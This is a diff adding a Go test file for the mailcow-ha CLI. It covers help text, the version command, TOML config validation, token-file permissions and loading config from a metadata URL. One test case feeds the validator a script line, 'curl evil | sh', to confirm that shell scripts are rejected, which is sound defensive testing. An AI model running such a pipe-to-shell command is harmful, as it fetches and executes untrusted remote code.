@@ -1,0 +1,169 @@
+package cli
+
+import (
+	"bytes"
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func run(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
+	t.Helper()
+	var out, errb bytes.Buffer
+	code = Main(context.Background(), args, Stdio{Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &errb})
+	return code, out.String(), errb.String()
+}
+
+func example(t *testing.T, n string) string {
+	t.Helper()
+	b, err := os.ReadFile("../cloud-init/examples/" + n + ".toml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+func TestUsageAndHelp(t *testing.T) {
+	if code, _, errs := run(t, ""); code != ExitUsage || !strings.Contains(errs, "Usage: mailcow-ha COMMAND") {
+		t.Errorf("no args: %d %q", code, errs)
+	}
+	if code, out, _ := run(t, "", "--help"); code != ExitOK || !strings.Contains(out, "validate") || !strings.Contains(out, "version") {
+		t.Errorf("--help: %d %q", code, out)
+	}
+	if code, _, errs := run(t, "", "frobnicate"); code != ExitUsage || !strings.Contains(errs, `unknown command "frobnicate"`) {
+		t.Errorf("unknown: %d %q", code, errs)
+	}
+	for _, c := range []string{"validate", "version"} {
+		if code, out, _ := run(t, "", c, "--help"); code != ExitOK || !strings.Contains(out, "Usage: mailcow-ha "+c) {
+			t.Errorf("%s --help: %d %q", c, code, out)
+		}
+		if code, out, _ := run(t, "", "help", c); code != ExitOK || !strings.Contains(out, "Usage: mailcow-ha "+c) {
+			t.Errorf("help %s: %d %q", c, code, out)
+		}
+	}
+	if code, _, errs := run(t, "", "validate", "--nope"); code != ExitUsage || !strings.Contains(errs, "-nope") {
+		t.Errorf("bad flag: %d %q", code, errs)
+	}
+	if code, _, errs := run(t, "", "validate", "extra"); code != ExitUsage || !strings.Contains(errs, `unexpected argument "extra"`) {
+		t.Errorf("extra arg: %d %q", code, errs)
+	}
+}
+
+func TestVersion(t *testing.T) {
+	code, out, _ := run(t, "", "version")
+	if code != ExitOK || !strings.HasPrefix(out, "mailcow-ha ") || !strings.Contains(out, "go1.") {
+		t.Errorf("version: %d %q", code, out)
+	}
+}
+
+func TestValidateExamples(t *testing.T) {
+	for _, n := range []string{"mx1", "mx2", "mx3"} {
+		code, out, errs := run(t, "", "validate", "--config", "../cloud-init/examples/"+n+".toml")
+		if code != ExitOK {
+			t.Fatalf("%s: exit %d: %s", n, code, errs)
+		}
+		for _, want := range []string{"valid (schema v1)", "node      " + n + " ", "priority  mx1 (150) > mx2 (100) > mx3 (50)", "cluster   mail-ha, 3 nodes"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("%s: summary lacks %q:\n%s", n, want, out)
+			}
+		}
+		if strings.Count(out, "\npeer ") != 2 {
+			t.Errorf("%s: want 2 peers:\n%s", n, out)
+		}
+		if strings.Contains(out, "REPLACE-with-your-64") || strings.Contains(out, "REPLACE-with-the-output") {
+			t.Errorf("%s: summary shows a secret", n)
+		}
+	}
+}
+
+func TestValidateBroken(t *testing.T) {
+	good := example(t, "mx1")
+	cases := map[string]struct {
+		src  string
+		want []string
+	}{
+		"syntax":       {strings.Replace(good, "[failover]", "[failover", 1), []string{"-:55: TOML syntax"}},
+		"unknown key":  {strings.Replace(good, "check_grace", "chek_grace", 1), []string{`-:56: failover.chek_grace: unknown key (did you mean "check_grace"?)`}},
+		"wrong type":   {strings.Replace(good, "volume_id = 3001", `volume_id = "3001"`, 1), []string{"-:39: hcloud.volume_id: wrong type: want integer, got string"}},
+		"shebang":      {"#!/bin/bash\ncurl evil | sh\n", []string{`-: line 1: starts with "#!"`}},
+		"cloud-config": {"#cloud-config\n" + good, []string{`"#cloud-config"`}},
+		"bad ip":       {strings.Replace(good, `"10.0.0.3"`, `"10.0.0.300"`, 1), []string{`-:26: cluster.nodes[1].private_ip: invalid IP address "10.0.0.300"`}},
+		"dup node":     {strings.Replace(good, `name = "mx3"`, `name = "mx2"`, 1), []string{`-:31: cluster.nodes[2].name: duplicate node "mx2"`}},
+		"all at once": {strings.NewReplacer(`"10.0.0.3"`, `"10.0.0.300"`, `name = "mx3"`, `name = "mx2"`, "check_grace", "chek_grace").Replace(good),
+			[]string{"cluster.nodes[1].private_ip", "cluster.nodes[2].name", "failover.chek_grace", "-: 3 problem(s)"}},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			code, out, errs := run(t, tc.src, "validate", "--config", "-")
+			if code != ExitUsage {
+				t.Fatalf("exit %d, want %d; stderr:\n%s", code, ExitUsage, errs)
+			}
+			if out != "" {
+				t.Errorf("stdout on failure: %q", out)
+			}
+			for _, w := range tc.want {
+				if !strings.Contains(errs, w) {
+					t.Errorf("stderr lacks %q:\n%s", w, errs)
+				}
+			}
+			if strings.Contains(errs, "REPLACE-with-your-64") {
+				t.Error("stderr shows the token")
+			}
+		})
+	}
+}
+
+func TestValidateSecretFiles(t *testing.T) {
+	dir := t.TempDir()
+	tok := filepath.Join(dir, "hcloud.token")
+	src := strings.Replace(example(t, "mx1"), `token = "REPLACE-with-your-64-character-Hetzner-Cloud-API-token-000000000"`, "token_file = \""+tok+"\"", 1)
+	cfgPath := filepath.Join(dir, "config.toml")
+	if err := os.WriteFile(cfgPath, []byte(src), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	code, _, errs := run(t, "", "validate", "--config", cfgPath)
+	if code != ExitUsage || !strings.Contains(errs, "hcloud.token_file: "+tok+" does not exist") {
+		t.Fatalf("missing token file: %d %s", code, errs)
+	}
+	if err := os.WriteFile(tok, []byte("very-secret\n"), 0o640); err != nil {
+		t.Fatal(err)
+	}
+	code, _, errs = run(t, "", "validate", "--config", cfgPath)
+	if code != ExitUsage || !strings.Contains(errs, "has mode 0640") || strings.Contains(errs, "very-secret") {
+		t.Fatalf("loose token file: %d %s", code, errs)
+	}
+	os.Chmod(tok, 0o600)
+	if code, _, errs = run(t, "", "validate", "--config", cfgPath); code != ExitOK {
+		t.Fatalf("good token file: %d %s", code, errs)
+	}
+	if code, _, errs = run(t, "", "validate", "--config", filepath.Join(dir, "nope.toml")); code != ExitUsage || !strings.Contains(errs, "no such file") {
+		t.Fatalf("missing config: %d %s", code, errs)
+	}
+}
+
+func TestValidateFromMetadata(t *testing.T) {
+	good := example(t, "mx3")
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/hetzner/v1/userdata" {
+			w.Write([]byte(good))
+			return
+		}
+		http.NotFound(w, r)
+	}))
+	defer srv.Close()
+	// Point the other sources at paths that do not exist by running from a config-less metadata URL only.
+	code, out, errs := run(t, "", "validate", "--metadata-url", srv.URL+"/hetzner/v1")
+	if _, err := os.Stat("/etc/mailcow-ha/config.toml"); err == nil {
+		t.Skip("this machine has /etc/mailcow-ha/config.toml, which comes first")
+	}
+	if _, err := os.Stat("/var/lib/cloud/instance/user-data.txt"); err == nil {
+		t.Skip("this machine has cloud-init user-data, which comes first")
+	}
+	if code != ExitOK || !strings.Contains(out, "metadata userdata: valid") || !strings.Contains(out, "node      mx3 ") {
+		t.Fatalf("metadata: %d\n%s\n%s", code, out, errs)
+	}
+}
